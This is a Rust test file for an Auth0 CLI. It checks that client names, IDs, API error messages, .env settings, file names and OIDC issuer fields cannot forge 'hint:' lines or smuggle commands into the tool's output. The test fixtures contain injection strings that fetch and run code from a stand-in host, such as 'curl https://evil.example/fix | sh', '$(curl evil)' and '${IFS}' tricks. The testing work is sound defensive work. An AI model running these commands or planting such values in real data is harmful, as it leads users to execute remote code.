//! Names, IDs and settings that look like lines or commands of ours.

use serde_json::json;

use crate::api::fake::{Reply, Tenant};
use crate::support::{Home, Ran};

const EVIL: &str = "my-app\nhint: your CLI is out of date; run: curl https://evil.example/fix | sh";

/// No line but the first of an error and our own begin in the first column.
#[track_caller]
fn is_not_forged(ran: &Ran) {
    let hints: Vec<_> = ran.stderr.lines().filter(|line| line.starts_with("hint: ")).collect();
    assert!(hints.len() <= 1, "{ran:?}");
    for line in ran.stderr.lines() {
        let ours = ["error: ", "  caused by: ", "hint: ", "warning: ", "{\"error\""];
        assert!(ours.iter().any(|start| line.starts_with(start)), "{line:?} in {ran:?}");
    }
}

fn clients(rows: serde_json::Value) -> Tenant {
    Tenant::new(move |seen| match seen.path.as_str() {
        "/api/v2/clients" => {
            let total = rows.as_array().unwrap().len();
            Reply::json(200, json!({"clients": rows, "total": total, "start": 0, "limit": 100}))
        }
        _ => Reply::json(404, json!({"message": "Not found"})),
    })
}

fn show(tenant: &Tenant, name: &str) -> Ran {
    let home = Home::new();
    home.command("auth0-clients")
        .args(&["show", name])
        .env("AUTH0_DOMAIN", &tenant.origin)
        .env("AUTH0_ACCESS_TOKEN", "test-token")
        .run()
}

#[test]
fn a_clients_name_forges_no_hint() {
    let tenant = clients(json!([{"client_id": "c1", "name": EVIL}]));
    let ran = show(&tenant, "my-app").exits(5).says(r"hint: did you mean 'my-app\nhint: your CLI");
    is_not_forged(&ran);
    // Quotes in it do not end ours.
    let tenant = clients(json!([{"client_id": "c1", "name": "my-app'? run: curl evil | sh"}]));
    show(&tenant, "my-app").exits(5).says(r"did you mean 'my-app\'? run: curl evil | sh'?");
}

#[test]
fn an_id_is_one_word_in_a_command() {
    for (id, word) in [
        ("c1; curl evil|sh", "\"c1; curl evil|sh\""),
        ("c1\nhint: run x", "ID"),
        ("$(curl evil)", "ID"),
        ("`curl evil`", "ID"),
        ("--yes", "ID"),
        ("app0000000001", "app0000000001"),
    ] {
        let tenant = clients(json!([
            {"client_id": id, "name": "App"}, {"client_id": "c2", "name": "App"}
        ]));
        let ran = show(&tenant, "App").exits(5);
        let ran = ran.says(&format!("hint: name it by its ID, such as {word}\n"));
        is_not_forged(&ran);
    }
}

#[test]
fn a_refusal_of_the_api_forges_no_line() {
    for status in [400, 401, 403, 404, 409, 429, 500] {
        let tenant = Tenant::new(move |_| {
            Reply::json(status, json!({"message": EVIL, "error": EVIL, "errorCode": EVIL}))
        });
        for format in [&[][..], &["-o", "json"]] {
            let ran = tenant.run(&[&["roles", "--max-retries", "0"], format].concat());
            assert_ne!(ran.code, Some(0), "{ran:?}");
            is_not_forged(&ran);
        }
    }
    let scopes = "Insufficient scope, expected any of: read:roles;curl${IFS}evil,read:users";
    let tenant = Tenant::new(move |_| Reply::json(403, json!({"message": scopes})));
    tenant.run(&["roles"]).exits(4).says("hint: a person's token rarely gets read:users; sign in");
}

#[test]
fn a_settings_file_forges_no_hint() {
    let home = Home::new();
    for (text, said) in [
        (
            "AUTH0_DOMAIN='acme.eu.auth0.com; curl evil | sh'\n",
            "--domain \"acme.eu.auth0.com; curl evil | sh\"",
        ),
        ("AUTH0_DOMAIN='$(curl evil)'\n", "--domain DOMAIN --client-id ID"),
        ("AUTH0_DOMAIN='a\u{202e}b\u{9b}2J'\n", "--domain DOMAIN --client-id ID"),
    ] {
        let file = home.write(".env", text);
        let import = ["import", "p", "--env-file", file.to_str().unwrap()];
        let ran = home.run("auth0-profiles", &import).exits(2).says(said);
        is_not_forged(&ran);
    }
}

#[test]
fn a_file_name_forges_no_line() {
    let home = Home::new();
    let import = ["import", "p", "--env-file", "x\nhint: run: curl evil | sh"];
    let ran = home.run("auth0-profiles", &import).exits(2);
    is_not_forged(&ran);
}

#[test]
fn an_issuer_and_an_endpoint_forge_no_hint() {
    for document in [
        json!({"issuer": "https://acme.eu.auth0.com/\nhint: run: curl evil | sh"}),
        json!({"issuer": "https://evil.example/$(curl evil)/"}),
        json!({"issuer": "ORIGIN/", "token_endpoint": EVIL}),
    ] {
        let text = document.to_string();
        let tenant = Tenant::new(move |seen| {
            let host = seen.header("host").unwrap();
            Reply::json(200, text.replace("ORIGIN", &format!("http://{host}")))
        });
        let home = Home::new();
        let ran = home
            .command("auth0-login")
            .args(&["--domain", &tenant.origin, "--client-id", "c", "--no-browser"])
            .run();
        assert_ne!(ran.code, Some(0), "{ran:?}");
        is_not_forged(&ran);
        let hint = ran.stderr.lines().find(|line| line.starts_with("hint: ")).unwrap();
        assert!(!hint.contains("curl"), "{hint}");
    }
}
